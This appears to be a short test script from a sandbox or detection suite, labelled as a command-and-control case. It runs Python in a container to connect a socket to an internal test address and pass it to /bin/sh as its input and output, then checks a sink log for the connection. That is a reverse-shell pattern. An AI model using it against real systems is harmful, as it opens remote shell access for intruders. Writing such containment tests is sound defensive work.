# V28 C2-001 without dup2 in the script: python subprocess hands the connected socket to sh as stdio
ctr_run simctr-infer-v28 ctr-infer --mount --pid --fork --mount-proc -- timeout 8 python3 -c '
import socket, subprocess
s = socket.create_connection(("10.200.2.2", 80))
subprocess.call(["/bin/sh", "-c", "echo via-subprocess; sleep 1"], stdin=s, stdout=s, stderr=s)'
grep ':80 ' "$H/sink.log" | tail -1
